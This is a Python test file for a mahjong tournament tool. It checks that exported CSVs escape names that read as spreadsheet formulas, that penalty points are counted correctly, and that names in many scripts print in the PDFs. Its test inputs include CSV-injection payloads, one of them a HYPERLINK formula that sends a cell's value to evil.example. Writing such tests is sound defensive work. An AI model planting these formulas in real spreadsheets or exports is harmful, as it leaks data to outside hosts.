"""What the director prints and exports (issue 42, items 9-11): CSV that a spreadsheet cannot run, the
penalties column, and names in any script in the PDFs."""

import csv
import json

import pytest
from tournament_kit import win

from assistant.cli import main
from assistant.tournament.reports import submit
from assistant.tournament.store import Store


def run_json(capsys, argv):
    code = main(argv + ["--json"])
    out = capsys.readouterr().out
    return code, json.loads(out.strip().splitlines()[-1])


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1,2)", "@SUM(1+1)", "-1+1", "=1+1", "-Ann"]


def test_names_that_read_as_formulas_are_text_in_every_csv_and_negative_points_stay_numbers(capsys, tmp_path):
    path = tmp_path / "players.csv"
    with open(path, "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([["name"]] + [[n] for n in FORMULAS + ["Bea", "Cy"]])
    db = str(tmp_path / "f.db")
    code, made = run_json(capsys, ["tournament", "new", "X", "--players", str(path), "--tables", "2", "--rounds", "1",
                                   "--games-per-round", "1", "--db", db, "--cards", str(tmp_path / "c.pdf")])
    assert code == 0, made
    store = Store.open(db)
    for t in (1, 2):  # B threw the winning tile to three exposures: -25, a negative number in every CSV
        assert submit(store, made["director_token"], win(t, 1, exposures=3))["status"] == "counted"
    store.close()
    assert main(["tournament", "standings", "--csv", "--db", db]) == 0
    printed = list(csv.reader(capsys.readouterr().out.splitlines()))
    assert run_json(capsys, ["tournament", "export", "--db", db, "--out", str(tmp_path / "ex")])[0] == 0
    standings_csv = list(csv.reader(open(tmp_path / "ex" / "standings.csv", encoding="utf-8")))
    results_csv = list(csv.reader(open(tmp_path / "ex" / "results.csv", encoding="utf-8")))
    for rows, name_col, points_col in ((printed, 1, 2), (standings_csv, 1, 2), (results_csv, 4, 5)):
        names = {r[name_col] for r in rows[1:]}
        assert {"'" + n for n in FORMULAS} | {"Bea", "Cy"} == names
        assert not any(c.startswith(("=", "+", "-", "@")) for r in rows[1:] for c in r if not c.lstrip("-").isdigit())
        assert {r[points_col] for r in rows[1:]} >= {"-25"}  # a number, not '-25


@pytest.mark.parametrize(("cell", "written"), [("=1+1", "'=1+1"), ("\t=1", "'\t=1"), ("\r+1", "'\r+1"),
                                                ("Ann", "Ann"), (-25, -25), ("", "")])
def test_csv_cell(cell, written):
    from assistant.tournament.sheets import csv_cell

    assert csv_cell(cell) == written


def test_penalty_points_count_every_penalty_taken():
    """A peek in a wall game (-10, then +10) is a penalty too; so are the discard penalties of a win."""
    from tournament_kit import profile_and_card

    from engine.referee import parse_profile
    from engine.tournament import GameResult, game_points, penalty_points

    mahjcon = parse_profile(*profile_and_card()[0])
    peek = (("A", "blind_pass_peek"),)
    wall_peek = GameResult("wall_game", penalties=peek)
    assert game_points(mahjcon, wall_peek, "ABCD")["A"] == 0
    assert penalty_points(mahjcon, wall_peek, "ABCD") == {"A": -10}
    fed = GameResult("mahjong", winner="C", value=25, discarder="A", exposures=3, penalties=peek)
    assert penalty_points(mahjcon, fed, "ABCD") == {"A": -35}
    assert penalty_points(mahjcon, GameResult("mahjong", winner="C", value=25, discarder="B", misnamed=True),
                          "ABC") == {"B": -25}
    assert penalty_points(mahjcon, GameResult("mahjong", winner="C", value=25, self_picked=True, exposures=3),
                          "ABCD") == {}
    assert penalty_points(mahjcon, GameResult("mahjong", winner="C", value=25, discarder="B", exposures=1),
                          "ABCD") == {}


def test_the_penalties_column_and_its_tie_break_count_a_peek_in_a_wall_game(tmp_path):
    from tournament_kit import new_tournament, wall

    store, tokens = new_tournament(f"sqlite:///{tmp_path / 'p.db'}", tables=1, rounds=1, games=2,
                                   names=["Ann", "Bea", "Cy", "Di"])
    seats = store.seating(1)[1]
    a, c = sorted([seats["A"], seats["C"]])  # a: the one whose name sorts first takes the peek
    letter = {n: x for x, n in seats.items()}
    d = tokens["director"]
    submit(store, d, wall(1, 1, penalties=[{"seat": letter[a], "kind": "blind_pass_peek"}]))  # a 0, others 10
    submit(store, d, wall(1, 2, dead=[letter[c]]))  # c 0, others 10: a and c both on 10, no wins
    rows = {r.name: r for r in store.standings()}
    store.close()
    assert (rows[a].points, rows[a].wins, rows[a].penalties) == (10, 0, -10)
    assert (rows[c].points, rows[c].wins, rows[c].penalties) == (10, 0, 0)
    assert rows[c].place < rows[a].place  # fewer penalty points ranks first, ahead of the name


ANY_SCRIPT = ["Zoë Ørsted-Łukasz", "Αλέξης Παπαδόπουλος", "שרה לוי", "山田 花子", "Ann 😀 Lee", "🀄 Mei Chen", "Bob",
              "Cy"]


def pdf_text(path) -> str:
    """The PDF's text as poppler's pdftotext reads it (right-to-left runs in logical order, their embedding marks
    dropped)."""
    import os
    import re
    import shutil
    import subprocess

    if shutil.which("pdftotext") is None:
        if os.environ.get("CI"):
            pytest.fail("pdftotext is missing: .ci/run installs poppler-utils")
        pytest.skip("needs pdftotext (apt install poppler-utils)")
    out = subprocess.run(["pdftotext", "-enc", "UTF-8", str(path), "-"], capture_output=True, text=True, check=True)
    return re.sub("[\u202a-\u202e\u2066-\u2069]", "", out.stdout)


def test_names_in_any_script_print_on_the_cards_standings_and_score_sheets(capsys, caplog, tmp_path):
    """Latin with accents, Greek, Hebrew (right to left), Japanese and emoji, with no font warning anywhere."""
    import socket

    path = tmp_path / "players.csv"
    path.write_text("name\n" + "\n".join(ANY_SCRIPT) + "\n", encoding="utf-8")
    db = str(tmp_path / "s.db")
    code, made = run_json(capsys, ["tournament", "new", "Spring Open", "--players", str(path), "--tables", "2",
                                   "--rounds", "1", "--games-per-round", "1", "--db", db, "--cards",
                                   str(tmp_path / "cards.pdf"), "--url", f"http://{socket.gethostname()}:8780"])
    assert code == 0 and made["warnings"] == [], made
    store = Store.open(db)
    for t in (1, 2):
        submit(store, made["director_token"], win(t, 1))
    store.close()
    code, out = run_json(capsys, ["tournament", "export", "--db", db, "--out", str(tmp_path / "ex")])
    assert code == 0 and out["warnings"] == [] and not capsys.readouterr().err
    for pdf in (tmp_path / "cards.pdf", tmp_path / "ex" / "standings.pdf", tmp_path / "ex" / "score-sheets.pdf"):
        text = pdf_text(pdf)
        missing = [n for n in ANY_SCRIPT if n not in text]
        assert not missing, (pdf.name, missing, text)
    assert not [r for r in caplog.records if r.levelno >= 30], [r.getMessage() for r in caplog.records]


def test_a_script_no_font_here_prints_is_named_with_the_package_to_install(capsys, monkeypatch, tmp_path):
    """Without the CJK fonts, 山田 花子 prints as '?? ??' (never blank) and the warning names fonts-noto-cjk."""
    from assistant.tournament import fonts
    from assistant.tournament.sheets import table_cards

    monkeypatch.setattr(fonts, "FALLBACKS", tuple(f for f in fonts.FALLBACKS if f.package != "fonts-noto-cjk"))
    monkeypatch.setattr(fonts, "_others", list)
    choice = fonts.choose(["Spring Open", "山田 花子", "Zoë"])
    assert choice.missing == set("山田花子") and len(choice.warnings) == 1
    assert "'山田 花子'" in choice.warnings[0] and "sudo apt install fonts-noto-cjk" in choice.warnings[0]
    table_cards(tmp_path / "c.pdf", "Spring Open", "http://x:1", {1: "tok"}, {1: {"A": "山田 花子", "B": "Zoë"}})
    assert "A ?? ??, B Zoë" in pdf_text(tmp_path / "c.pdf")
